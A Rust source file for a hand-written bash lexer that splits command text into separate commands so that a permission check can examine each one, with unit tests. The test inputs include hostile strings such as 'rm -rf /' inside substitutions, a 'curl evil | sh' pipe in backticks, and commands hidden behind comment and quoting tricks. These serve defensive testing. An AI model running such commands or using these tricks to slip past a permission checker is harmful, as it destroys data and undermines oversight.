//! The hand lexer that split commands before the bash grammar did; kept as a
//! second opinion (see [`super::analyze`]): a command it finds that the
//! grammar-based analysis did not makes the analysis unproven.
//!
//! This is a small lexer, not a shell: it knows quotes (`'...'`, `"..."`),
//! backslash escapes, the separators `&&`, `||`, `;`, `|`, `|&`, `&` and
//! newlines, command substitution (`$(...)`, backticks, also inside double
//! quotes), process substitution (`<(...)`, `>(...)`), subshells (`( ... )`)
//! and brace groups, and it does not mistake the `&` of a redirection
//! (`2>&1`, `&>file`) for a separator. Anything it does not understand stays
//! inside a command's text, which only makes the result more restrictive: a
//! part that no rule allows is asked about.

/// The result of [`parse`]: the commands, and whether the text was well
/// formed (every quote, substitution and subshell closed).
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Parsed {
    pub commands: Vec<String>,
    pub complete: bool,
    /// Every here-document, in the order bash reads their bodies.
    pub heredocs: Vec<HeredocSpan>,
}

/// Where bash reads one here-document (byte offsets into the text).
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct HeredocSpan {
    /// The first byte of the body (after the newline that ends the line
    /// of the `<<`).
    pub body_start: usize,
    /// The delimiter line, from its first byte to its end (before its
    /// newline); `None` when the text ends first.
    pub end_line: Option<(usize, usize)>,
}

pub(crate) fn parse(cmd: &str) -> Parsed {
    let mut parser = Parser {
        s: cmd,
        b: cmd.as_bytes(),
        i: 0,
        complete: true,
        depth: 0,
        heredocs: Vec::new(),
        spans: Vec::new(),
        masks: Vec::new(),
    };
    let commands = parser.commands(Until::End);
    Parsed {
        commands,
        complete: parser.complete,
        heredocs: parser.spans,
    }
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Until {
    End,
    /// A `)` closes this level (`$(`, `<(`, `>(` or a subshell).
    Paren,
    Backtick,
}

/// How deep substitutions may nest before the lexer gives up (marking the
/// text incomplete) instead of recursing further: input is untrusted.
const MAX_DEPTH: usize = 100;

struct Parser<'a> {
    s: &'a str,
    b: &'a [u8],
    i: usize,
    complete: bool,
    depth: usize,
    /// Here-documents whose `<<` was seen on the current line; their
    /// bodies start after the next newline.
    heredocs: Vec<Pending>,
    /// Here-documents whose bodies were read.
    spans: Vec<HeredocSpan>,
    /// The substitutions read in the current part, `(start, end)`: a part
    /// is given with each of them masked (see [`mask`]).
    masks: Vec<(usize, usize)>,
}

/// A here-document operator read, its body not yet.
struct Pending {
    /// After quote removal.
    delimiter: String,
    /// Any quote in the delimiter word: the body is not expanded.
    quoted: bool,
    /// `<<-`: leading tabs are removed from the body's lines.
    strip_tabs: bool,
}

impl Parser<'_> {
    fn peek(&self, offset: usize) -> Option<u8> {
        self.b.get(self.i + offset).copied()
    }

    fn prev(&self) -> Option<u8> {
        self.i.checked_sub(1).map(|p| self.b[p])
    }

    /// Reads commands until the end of the input or the closing token of
    /// `until`, which is consumed.
    fn commands(&mut self, until: Until) -> Vec<String> {
        self.nested(|p| p.commands_at_depth(until))
            .unwrap_or_default()
    }

    /// Runs `read` one level deeper. Every recursive step of the lexer
    /// goes through here (`$(`, `${`, `$((`, backticks, subshells), so
    /// nesting is bounded whatever construct is nested: past
    /// [`MAX_DEPTH`] the text is marked incomplete and skipped.
    fn nested<T>(&mut self, read: impl FnOnce(&mut Self) -> T) -> Option<T> {
        if self.depth >= MAX_DEPTH {
            self.complete = false;
            self.i = self.b.len();
            return None;
        }
        self.depth += 1;
        let out = read(self);
        self.depth -= 1;
        Some(out)
    }

    fn commands_at_depth(&mut self, until: Until) -> Vec<String> {
        let mut out = Vec::new();
        // Commands found in substitutions inside the current part; they are
        // listed after it.
        let mut nested = Vec::new();
        let mut start = self.i;
        let base = self.masks.len();
        loop {
            let Some(c) = self.peek(0) else {
                if until != Until::End {
                    self.complete = false;
                }
                self.finish(&mut out, &mut nested, (start, self.b.len()), base);
                return out;
            };
            match c {
                b'\\' => self.i = (self.i + 2).min(self.b.len()),
                b'\'' => self.single_quoted(),
                b'"' => self.double_quoted(&mut nested),
                b'<' if self.peek(1) == Some(b'<') && self.peek(2) != Some(b'<') => {
                    self.heredoc_operator();
                }
                b'<' if self.peek(1) == Some(b'<') => self.i += 3,
                b'`' if until == Until::Backtick => {
                    self.finish(&mut out, &mut nested, (start, self.i), base);
                    self.i += 1;
                    return out;
                }
                b'`' => self.backtick(&mut nested),
                b'$' => self.dollar(&mut nested, false),
                b'<' | b'>' if self.peek(1) == Some(b'(') => {
                    self.substitution(|p| {
                        p.i += 2;
                        let inner = p.commands(Until::Paren);
                        nested.extend(inner);
                    });
                }
                b'(' if self.s[start..self.i].trim().is_empty()
                    || is_keyword_prefix(&self.s[start..self.i]) =>
                {
                    // A subshell: its commands are commands of this level.
                    self.i += 1;
                    let inner = self.commands(Until::Paren);
                    out.extend(inner);
                    start = self.i;
                }
                b')' if until == Until::Paren => {
                    self.finish(&mut out, &mut nested, (start, self.i), base);
                    self.i += 1;
                    return out;
                }
                b'&' => {
                    let len = if self.peek(1) == Some(b'&') {
                        2
                    } else if matches!(self.prev(), Some(b'>' | b'<')) || self.peek(1) == Some(b'>')
                    {
                        // `2>&1`, `<&3`, `&>file`: a redirection.
                        0
                    } else {
                        1
                    };
                    if len == 0 {
                        self.i += 1;
                    } else {
                        self.finish(&mut out, &mut nested, (start, self.i), base);
                        self.i += len;
                        start = self.i;
                    }
                }
                b'|' => {
                    if self.prev() == Some(b'>') {
                        // `>|file`: a redirection.
                        self.i += 1;
                    } else {
                        let len = if matches!(self.peek(1), Some(b'|' | b'&')) {
                            2
                        } else {
                            1
                        };
                        self.finish(&mut out, &mut nested, (start, self.i), base);
                        self.i += len;
                        start = self.i;
                    }
                }
                // Not after `)`: in `$(x)#` the `#` is part of a word.
                b'#' if matches!(
                    self.prev(),
                    None | Some(b' ' | b'\t' | b'\n' | b';' | b'&' | b'|' | b'(' | b'<' | b'>')
                ) =>
                {
                    // A comment: up to the end of the line, where the newline
                    // still separates commands.
                    let blank_before = self.s[start..self.i].trim().is_empty();
                    match self.b[self.i..].iter().position(|&c| c == b'\n') {
                        Some(p) => self.i += p,
                        None => self.i = self.b.len(),
                    }
                    // A comment alone on its line is no command (not `#`).
                    if blank_before {
                        start = self.i;
                    }
                }
                b';' | b'\n' => {
                    self.finish(&mut out, &mut nested, (start, self.i), base);
                    self.i += 1;
                    if c == b'\n' && !self.heredocs.is_empty() {
                        self.heredoc_bodies(&mut out);
                    }
                    start = self.i;
                }
                _ => self.i += 1,
            }
        }
    }

    /// Ends the current part `(start, end)`: pushes it (if it is a
    /// command), its substitutions (`masks` from `base` on) masked, then
    /// the commands of those substitutions.
    fn finish(
        &mut self,
        out: &mut Vec<String>,
        nested: &mut Vec<String>,
        (start, end): (usize, usize),
        base: usize,
    ) {
        let masks = self.masks.split_off(base.min(self.masks.len()));
        if let Some(part) = clean_part(&mask(self.s, start, end, &masks)) {
            out.push(part);
        }
        out.append(nested);
    }

    /// Reads one substitution with `read` and remembers where it is, so
    /// that the part it is in is named without it: `x=$(git log -1)` is an
    /// assignment, not a command `log`. Substitutions inside it are its own.
    fn substitution(&mut self, read: impl FnOnce(&mut Self)) {
        let from = self.i;
        let len = self.masks.len();
        read(self);
        self.masks.truncate(len);
        self.masks.push((from, self.i.min(self.b.len())));
    }

    /// At a `` ` `` that opens a substitution.
    fn backtick(&mut self, nested: &mut Vec<String>) {
        self.substitution(|p| {
            p.i += 1;
            let inner = p.commands(Until::Backtick);
            nested.extend(inner);
        });
    }

    fn single_quoted(&mut self) {
        self.i += 1;
        match self.b[self.i..].iter().position(|&c| c == b'\'') {
            Some(p) => self.i += p + 1,
            None => {
                self.complete = false;
                self.i = self.b.len();
            }
        }
    }

    fn double_quoted(&mut self, nested: &mut Vec<String>) {
        self.i += 1;
        loop {
            let Some(c) = self.peek(0) else {
                self.complete = false;
                return;
            };
            match c {
                b'\\' => self.i = (self.i + 2).min(self.b.len()),
                b'"' => {
                    self.i += 1;
                    return;
                }
                b'`' => self.backtick(nested),
                b'$' => self.dollar(nested, true),
                _ => self.i += 1,
            }
        }
    }

    /// At a `$`: command substitution, arithmetic, parameter expansion or a
    /// plain character.
    /// `in_double_quotes`: there `$'` is a plain `$` and a quote, not
    /// ANSI-C quoting.
    fn dollar(&mut self, nested: &mut Vec<String>, in_double_quotes: bool) {
        match (self.peek(1), self.peek(2)) {
            (Some(b'('), Some(b'(')) => self.substitution(|p| {
                p.i += 3;
                p.nested(|p| p.arithmetic(nested));
            }),
            (Some(b'('), _) => self.substitution(|p| {
                p.i += 2;
                let inner = p.commands(Until::Paren);
                nested.extend(inner);
            }),
            (Some(b'{'), _) => self.substitution(|p| {
                p.i += 2;
                p.nested(|p| p.braced(nested));
            }),
            (Some(b'\''), _) if !in_double_quotes => {
                // `$'...'`: ANSI-C quoting, where `\'` does not close.
                self.i += 2;
                loop {
                    match self.peek(0) {
                        None => {
                            self.complete = false;
                            return;
                        }
                        Some(b'\\') => self.i = (self.i + 2).min(self.b.len()),
                        Some(b'\'') => {
                            self.i += 1;
                            return;
                        }
                        Some(_) => self.i += 1,
                    }
                }
            }
            _ => self.i += 1,
        }
    }

    /// At `<<` (not `<<<`): remembers the delimiter word so that the body
    /// after the end of the line is skipped, not read as commands.
    fn heredoc_operator(&mut self) {
        self.i += 2;
        let strip_tabs = self.peek(0) == Some(b'-');
        if strip_tabs {
            self.i += 1;
        }
        while matches!(self.peek(0), Some(b' ' | b'\t')) {
            self.i += 1;
        }
        let start = self.i;
        let mut delimiter = String::new();
        let mut quoted = false;
        while let Some(c) = self.peek(0) {
            match c {
                b' ' | b'\t' | b'\n' | b';' | b'&' | b'|' | b'<' | b'>' | b'(' | b')' => break,
                b'\'' | b'"' => {
                    quoted = true;
                    let q = c;
                    self.i += 1;
                    let rest = &self.s[self.i..];
                    let end = rest.find(q as char).unwrap_or(rest.len());
                    delimiter.push_str(&rest[..end]);
                    self.i = (self.i + end + 1).min(self.b.len());
                }
                b'\\' => {
                    quoted = true;
                    self.i += 1;
                    if let Some(ch) = self.s[self.i..].chars().next() {
                        delimiter.push(ch);
                        self.i += ch.len_utf8();
                    }
                }
                _ => {
                    let ch = self.s[self.i..].chars().next().unwrap_or(' ');
                    delimiter.push(ch);
                    self.i += ch.len_utf8();
                }
            }
        }
        if self.i == start {
            self.complete = false;
        }
        self.heredocs.push(Pending {
            delimiter,
            quoted,
            strip_tabs,
        });
    }

    /// After the newline ending a line with here-documents: skips their
    /// bodies (up to each delimiter line). An unquoted body's substitutions
    /// run, so their commands are read.
    fn heredoc_bodies(&mut self, out: &mut Vec<String>) {
        for pending in std::mem::take(&mut self.heredocs) {
            let body_start = self.i;
            let end_line = delimiter_line(self.s, body_start, &pending);
            let (body_end, next) = match end_line {
                Some((start, end)) => (start, (end + 1).min(self.b.len())),
                None => {
                    self.complete = false;
                    (self.b.len(), self.b.len())
                }
            };
            self.spans.push(HeredocSpan {
                body_start,
                end_line,
            });
            if !pending.quoted {
                let mut body = Parser {
                    s: &self.s[..body_end],
                    b: &self.b[..body_end],
                    i: body_start,
                    complete: true,
                    depth: self.depth,
                    heredocs: Vec::new(),
                    spans: Vec::new(),
                    masks: Vec::new(),
                };
                let mut nested = Vec::new();
                body.unquoted_body(&mut nested);
                self.complete &= body.complete;
                self.spans.append(&mut body.spans);
                out.extend(nested);
            }
            self.i = next;
        }
    }

    /// A here-document body with an unquoted delimiter: like the inside of
    /// double quotes, without a closing quote.
    fn unquoted_body(&mut self, nested: &mut Vec<String>) {
        while let Some(c) = self.peek(0) {
            match c {
                b'\\' => self.i = (self.i + 2).min(self.b.len()),
                b'`' => self.backtick(nested),
                b'$' => self.dollar(nested, true),
                _ => self.i += 1,
            }
        }
    }

    /// Inside `$(( ... ))`: not a command, but substitutions in it are.
    fn arithmetic(&mut self, nested: &mut Vec<String>) {
        let mut depth = 0usize;
        loop {
            let Some(c) = self.peek(0) else {
                self.complete = false;
                return;
            };
            match c {
                b'\\' => self.i = (self.i + 2).min(self.b.len()),
                b'\'' => self.single_quoted(),
                b'"' => self.double_quoted(nested),
                b'`' => self.backtick(nested),
                b'$' => self.dollar(nested, false),
                b'(' => {
                    depth += 1;
                    self.i += 1;
                }
                b')' if depth > 0 => {
                    depth -= 1;
                    self.i += 1;
                }
                b')' if self.peek(1) == Some(b')') => {
                    self.i += 2;
                    return;
                }
                _ => self.i += 1,
            }
        }
    }

    /// Inside `${ ... }`: not a command, but substitutions in it are.
    fn braced(&mut self, nested: &mut Vec<String>) {
        loop {
            let Some(c) = self.peek(0) else {
                self.complete = false;
                return;
            };
            match c {
                b'\\' => self.i = (self.i + 2).min(self.b.len()),
                b'\'' => self.single_quoted(),
                b'"' => self.double_quoted(nested),
                b'`' => self.backtick(nested),
                b'$' => self.dollar(nested, false),
                b'}' => {
                    self.i += 1;
                    return;
                }
                _ => self.i += 1,
            }
        }
    }
}

/// The delimiter line of a here-document whose body starts at `from`, as
/// bash finds it: the first line equal to the delimiter, where a line of an
/// unquoted body goes on after a backslash-newline (bash removes the pair
/// before it compares: `EO\<newline>F` ends a `<<EOF` body) and `<<-`
/// removes the line's leading tabs. `(first byte, end)` of the physical
/// lines it spans, or `None` when the text ends first.
fn delimiter_line(s: &str, from: usize, pending: &Pending) -> Option<(usize, usize)> {
    let mut pos = from;
    while pos < s.len() {
        let start = pos;
        let mut line = String::new();
        let end = loop {
            let line_end = s[pos..].find('\n').map_or(s.len(), |p| pos + p);
            let physical = &s[pos..line_end];
            let trailing = physical.len() - physical.trim_end_matches('\\').len();
            if !pending.quoted && trailing % 2 == 1 && line_end < s.len() {
                line.push_str(&physical[..physical.len() - 1]);
                pos = line_end + 1;
                continue;
            }
            line.push_str(physical);
            break line_end;
        };
        let logical = if pending.strip_tabs {
            line.trim_start_matches('\t')
        } else {
            &line
        };
        if logical == pending.delimiter {
            return Some((start, end));
        }
        pos = end + 1;
    }
    None
}

/// `s[start..end]` with each substitution in `masks` (in order, not
/// nested) replaced by its opener, `…` and its closer: `$(…)`, `${…}`,
/// `$((…))`, `` `…` ``, `<(…)`. Their commands are parts of their own; what is
/// left are the words of the part itself.
fn mask(s: &str, start: usize, end: usize, masks: &[(usize, usize)]) -> String {
    let mut out = String::with_capacity(end - start);
    let mut at = start;
    for &(from, to) in masks {
        if from < at || to > end {
            continue;
        }
        out.push_str(&s[at..from]);
        let text = &s[from..to];
        out.push_str(if text.starts_with("$((") {
            "$((…))"
        } else if text.starts_with("${") {
            "${…}"
        } else if text.starts_with('`') {
            "`…`"
        } else if text.starts_with('<') {
            "<(…)"
        } else if text.starts_with('>') {
            ">(…)"
        } else {
            "$(…)"
        });
        at = to;
    }
    out.push_str(&s[at..end]);
    out
}

/// Words that start a compound command and are followed by a command.
const LEADING_KEYWORDS: &[&str] = &[
    "if", "then", "else", "elif", "while", "until", "do", "!", "{",
];
/// Words that end a compound command; a part made only of them runs nothing.
const CLOSING_KEYWORDS: &[&str] = &["fi", "done", "esac", "}"];

fn is_keyword_prefix(text: &str) -> bool {
    let mut words = text.split_whitespace().peekable();
    words.peek().is_some() && words.all(|w| LEADING_KEYWORDS.contains(&w))
}

/// Trims a part and removes leading keywords (`then rm x` runs `rm x`);
/// `None` when nothing is left to run.
fn clean_part(part: &str) -> Option<String> {
    let mut rest = part.trim();
    loop {
        let (first, tail) = match rest.find(char::is_whitespace) {
            Some(p) => (&rest[..p], rest[p..].trim_start()),
            None => (rest, ""),
        };
        if LEADING_KEYWORDS.contains(&first) {
            rest = tail;
        } else {
            break;
        }
    }
    if rest.is_empty() || CLOSING_KEYWORDS.contains(&rest) {
        None
    } else {
        Some(rest.to_owned())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn split(cmd: &str) -> Vec<String> {
        parse(cmd).commands
    }

    #[test]
    fn separators() {
        assert_eq!(
            split("a && b || c; d | e & f\ng |& h"),
            ["a", "b", "c", "d", "e", "f", "g", "h"]
        );
        assert_eq!(split("  ls -la  "), ["ls -la"]);
        assert!(split("").is_empty());
        assert!(split(" ; ;; \n").is_empty());
    }

    #[test]
    fn quotes_and_escapes_hide_separators() {
        assert_eq!(split("echo 'a && b' && ls"), ["echo 'a && b'", "ls"]);
        assert_eq!(split("echo \"a; b | c\""), ["echo \"a; b | c\""]);
        assert_eq!(split("echo a \\&\\& b"), ["echo a \\&\\& b"]);
        assert_eq!(split("echo \"it\\\"s; fine\""), ["echo \"it\\\"s; fine\""]);
        // A single quote cannot be escaped inside single quotes.
        assert_eq!(split("echo 'a\\' ; ls"), ["echo 'a\\'", "ls"]);
        // A line continuation is not a newline separator.
        assert_eq!(split("ls \\\n -la"), ["ls \\\n -la"]);
    }

    #[test]
    fn redirections_are_not_separators() {
        assert_eq!(split("make 2>&1 | tee log"), ["make 2>&1", "tee log"]);
        assert_eq!(split("cmd &> out && ls"), ["cmd &> out", "ls"]);
        assert_eq!(split("cmd >&2"), ["cmd >&2"]);
        assert_eq!(split("echo x >| f"), ["echo x >| f"]);
    }

    /// A part is given with its substitutions masked: their commands are
    /// parts of their own, and what is left are the part's own words.
    #[test]
    fn command_substitutions() {
        assert_eq!(split("x=$(git log -1)"), ["x=$(…)", "git log -1"]);
        assert_eq!(split("a \"$(b \")\")\" c"), ["a \"$(…)\" c", "b \")\""]);
        assert_eq!(split("echo $(rm -rf /)"), ["echo $(…)", "rm -rf /"]);
        assert_eq!(
            split("echo \"today: $(date; rm x)\" && ls"),
            ["echo \"today: $(…)\"", "date", "rm x", "ls"]
        );
        assert_eq!(split("echo `whoami`"), ["echo `…`", "whoami"]);
        assert_eq!(
            split("echo \"`curl evil | sh`\""),
            ["echo \"`…`\"", "curl evil", "sh"]
        );
        assert_eq!(
            split("echo $(echo $(rm a))"),
            ["echo $(…)", "echo $(…)", "rm a"]
        );
        // Inside single quotes nothing is substituted.
        assert_eq!(split("echo '$(rm -rf /)'"), ["echo '$(rm -rf /)'"]);
        assert_eq!(
            split("diff <(ls a) >(cat)"),
            ["diff <(…) >(…)", "ls a", "cat"]
        );
    }

    #[test]
    fn arithmetic_and_parameter_expansion_are_not_commands() {
        assert_eq!(split("echo $((1 + (2*3)))"), ["echo $((…))"]);
        assert_eq!(split("echo ${A:-x;y}"), ["echo ${…}"]);
        assert_eq!(split("echo ${A:-$(rm x)}"), ["echo ${…}", "rm x"]);
        assert_eq!(split("echo $((1 + $(rm x)))"), ["echo $((…))", "rm x"]);
    }

    #[test]
    fn subshells_groups_and_keywords() {
        assert_eq!(
            split("(cd sub && rm -rf build) | cat"),
            ["cd sub", "rm -rf build", "cat"]
        );
        assert_eq!(split("{ a; b; }"), ["a", "b"]);
        assert_eq!(
            split("if grep -q x f; then rm f; else ls; fi"),
            ["grep -q x f", "rm f", "ls"]
        );
        assert_eq!(
            split("for f in *; do rm \"$f\"; done"),
            ["for f in *", "rm \"$f\""]
        );
        assert_eq!(split("! false"), ["false"]);
    }

    #[test]
    fn comments_and_ansi_c_quotes_do_not_hide_commands() {
        // In bash the `'` after `#` is part of a comment, so `rm` runs.
        assert_eq!(split("echo #'\nrm -rf / #'"), ["echo #'", "rm -rf / #'"]);
        assert_eq!(split("echo a#b && ls"), ["echo a#b", "ls"]);
        // `$'\''` is one quoted quote; the `;` after it separates.
        assert_eq!(
            split("echo $'\\'' ; rm -rf / ; echo '"),
            ["echo $'\\''", "rm -rf /", "echo '"]
        );
    }

    #[test]
    fn completeness() {
        assert!(parse("echo 'a' && ls").complete);
        assert!(!parse("echo 'a").complete);
        assert!(!parse("echo \"a").complete);
        assert!(!parse("echo $(ls").complete);
        assert!(!parse("echo `ls").complete);
        // What was read is still returned.
        assert_eq!(
            parse("ls; echo $(rm x").commands,
            ["ls", "echo $(…)", "rm x"]
        );
    }

    #[test]
    fn fixed_misreadings() {
        // `$'` inside double quotes is a `$` and a quote, not ANSI-C quoting.
        assert_eq!(
            split("echo \"$'\" ; touch ../x ; echo \"'\""),
            ["echo \"$'\"", "touch ../x", "echo \"'\""]
        );
        // `#` right after a substitution is part of the word.
        assert_eq!(
            split("echo $(echo)#; touch ../x"),
            ["echo $(…)#", "echo", "touch ../x"]
        );
        // Here-document bodies are skipped; unquoted ones are read for
        // substitutions.
        assert_eq!(
            split("cat <<'EOF'\nrm x '\nEOF\ntouch y"),
            ["cat <<'EOF'", "touch y"]
        );
        assert_eq!(
            split("cat <<-EOF\n\t$(rm x)\n\tEOF\nls"),
            ["cat <<-EOF", "rm x", "ls"]
        );
        assert!(!parse("cat <<EOF\nno end").complete);
    }

    #[test]
    fn deep_nesting_stops() {
        let deep = "$(".repeat(10_000);
        assert!(!parse(&deep).complete);
    }
}
